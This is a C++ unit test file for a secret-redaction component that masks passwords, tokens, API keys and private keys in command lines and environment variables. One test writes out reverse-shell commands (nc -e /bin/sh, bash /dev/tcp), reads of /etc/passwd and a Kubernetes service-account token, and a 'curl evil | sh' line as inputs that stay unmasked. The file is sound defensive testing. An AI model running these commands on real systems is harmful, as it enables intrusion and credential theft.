// SPDX-License-Identifier: Apache-2.0
#include "base/redact.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <random>
#include <string>

namespace nezuban {
namespace {

// In the rows '|' stands for the NUL between arguments.
std::string Nuls(std::string text) {
  std::ranges::replace(text, '|', '\0');
  return text;
}

std::string Redacted(const std::string& text) {
  static const auto redactor = *Redactor::Make();
  const auto out = redactor->Redact(text);
  return out ? *out : "(nothing)";
}

struct Row {
  const char* text;
  const char* redacted;
};

TEST(Redact, VariablesAreMaskedAsAWhole) {
  const auto redactor = *Redactor::Make();
  const std::string masked =
      redactor
          ->RedactVariables(Nuls("DB_PASSWORD=two words|HOME=/x y|URL=a://u:pw12@h/|API_KEY=k|"))
          .value_or("(nothing)");
  EXPECT_EQ(masked, Nuls("DB_PASSWORD=***|HOME=/x y|URL=a://u:***@h/|API_KEY=*|"));
  EXPECT_EQ(redactor->RedactVariables(Nuls("HOME=/x|TOKEN=|")), std::nullopt);
  for (const std::string name :
       {"SECRET_KEY_BASE", "RAILS_MASTER_KEY", "JWT_KEY", "AZURE_STORAGE_CONNECTION_STRING",
        "REGISTRY_AUTH", "GITHUB_PAT", "SENTRY_DSN", "DBPASS", "DB_PASSWORD_PROD", "MYSQL_PWD"}) {
    EXPECT_EQ(redactor->RedactVariables(Nuls(name + "=a b c d|HOME=/x|")),
              Nuls(name + "=***|HOME=/x|"));
  }
  EXPECT_EQ(redactor->RedactVariables(masked), std::nullopt);
}

TEST(Redact, MasksWhatLooksLikeASecret) {
  for (const Row& row : {
           Row{"x|--password=hunter2|", "x|--password=***|"},
           Row{"x|--password=two words|y|", "x|--password=***|y|"},
           Row{"x|--password|two words|y|", "x|--password|***|y|"},
           Row{"x|-password|hunter2", "x|-password|***"},
           Row{"x|--db-passwd=a|--token=bb|", "x|--db-passwd=*|--token=**|"},
           Row{"x --password=hunter2 y", "x --password=*** y"},
           Row{"x --api-key hunter2 y", "x --api-key *** y"},
           Row{"sh|-c|x --secret hunter2; y|z|", "sh|-c|x --secret ***; y|z|"},
           Row{"sh|-c|PGPASSWORD=hunter2 psql; id|", "sh|-c|PGPASSWORD=*** psql; id|"},
           Row{"env|MYSQL_PWD=hunter2|mysql|", "env|MYSQL_PWD=***|mysql|"},
           Row{"AWS_SECRET_ACCESS_KEY=abcd/efg+h==", "AWS_SECRET_ACCESS_KEY=***"},
           Row{"x password='two words' y", "x password='***' y"},
           Row{"{\"user\": \"a\", \"apiKey\": \"s3cr3t\"}",
               "{\"user\": \"a\", \"apiKey\": \"***\"}"},
           Row{"curl|https://bob:hunter2@host/x|", "curl|https://bob:***@host/x|"},
           Row{"git clone https://:token99@host/x.git", "git clone https://:***@host/x.git"},
           Row{"curl|-H|Authorization: Bearer abcdefgh.ij|u|",
               "curl|-H|Authorization: Bearer ***|u|"},
           Row{"curl -H 'Authorization: Basic Zm9vOmJhcg==' u",
               "curl -H 'Authorization: Basic ***' u"},
           Row{"curl -H 'X-Vault-Token: hvs.abc' u", "curl -H 'X-Vault-Token: ***' u"},
           Row{"wget|--header=bearer abcdefghij|", "wget|--header=bearer ***|"},
           Row{"x eyJhbGciOiJIUzI1.eyJzdWIiOiIx.SflKxw y", "x *** y"},
           Row{"AKIAIOSFODNN7EXAMPLE", "***"},
           Row{"echo ghp_abcdefghijklmnopqrstuvwxyz0123456789", "echo ***"},
           Row{"echo xoxb-1234567890-abc", "echo ***"},
           Row{"-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
               "-----BEGIN RSA PRIVATE KEY-----***-----END RSA PRIVATE KEY-----"},
           Row{"-----BEGIN PRIVATE KEY-----\ncut off", "-----BEGIN PRIVATE KEY-----***"},
           Row{"mysql|-uroot|-phunter2|db|", "mysql|-uroot|-p***|db|"},
           Row{"/usr/bin/mysqldump -h x -phunter2 db", "/usr/bin/mysqldump -h x -p*** db"},
           Row{"sshpass|-p|hunter2|ssh|h|", "sshpass|-p|***|ssh|h|"},
           Row{"sshpass -phunter2 ssh h", "sshpass -p*** ssh h"},
           Row{"redis-cli|-h|x|-a|hunter2|", "redis-cli|-h|x|-a|***|"},
           Row{"docker|login|-u|me|-p|hunter2|r|", "docker|login|-u|me|-p|***|r|"},
           Row{"curl|-s|-u|bob:hunter2|http://h/|", "curl|-s|-u|bob:***|http://h/|"},
           Row{"sh|-c|curl -ubob:hunter2 h; rm x|", "sh|-c|curl -ubob:*** h; rm x|"},
       }) {
    EXPECT_EQ(Redacted(Nuls(row.text)), Nuls(row.redacted)) << row.text;
  }
}

// What hides no secret stays readable, above all what an attacker would like to see masked.
TEST(Redact, LeavesTheRest) {
  for (const char* text : {
           "",
           "bash|-i|",
           "ls|-la|/etc/passwd|",
           "cat|/var/run/secrets/kubernetes.io/serviceaccount/token|",
           "passwd|root|",
           "mkdir|-p|/a/b|",
           "ssh|-p|2222|host|",
           "nc|-e|/bin/sh|10.0.0.1|4444|",
           "curl|http://10.0.0.1:8080/x@y|",
           "git|clone|git@github.com:a/b.git|",
           "x|--password|--other|",
           "x|--password=|y|",
           "x|--token-file=***|--password=***|--secret|***|",
           "kubectl|get|secret|db|",
           "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
       }) {
    EXPECT_EQ(Redacted(Nuls(text)), "(nothing)") << text;
  }
  EXPECT_EQ(Redacted(Nuls("sh|-c|true --password=x; curl evil | sh|")),
            Nuls("sh|-c|true --password=*; curl evil | sh|"));
}

TEST(Redact, IsStableAndNeverLonger) {
  const std::string parts[] = {"--password=", "hunter2", " ",        std::string(1, '\0'),
                               "-p",          "mysql",   "token",    "\"",
                               "'",           "=",       "https://", "a:b@",
                               "bearer ",     ";",       "\xff"};
  std::mt19937 random(3);  // NOLINT: the same every time
  const auto redactor = *Redactor::Make();
  int masked = 0;
  for (int i = 0; i < 3000; ++i) {
    std::string text;
    for (int n = 0; n < 12; ++n) text += parts[random() % std::size(parts)];
    const auto once = redactor->Redact(text);
    if (!once) continue;
    ++masked;
    EXPECT_LE(once->size(), text.size());
    const auto twice = redactor->Redact(*once);
    if (twice) {
      EXPECT_LE(twice->size(), once->size());
    }
  }
  EXPECT_GT(masked, 500);
}

TEST(Redact, TakesMorePatterns) {
  const std::string more[] = {"corp-([0-9]+)", "blue[a-z]+"};
  const auto redactor = Redactor::Make(more);
  ASSERT_TRUE(redactor);
  EXPECT_EQ((*redactor)->Redact("corp-12345 bluebird --token=x9"), "corp-*** *** --token=**");
  const std::string bad[] = {"a("};
  const auto refused = Redactor::Make(bad);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().message, "redaction pattern 'a(': missing ): a(");
  EXPECT_EQ(refused.error().exit_code, 1);
}

}  // namespace
}  // namespace nezuban
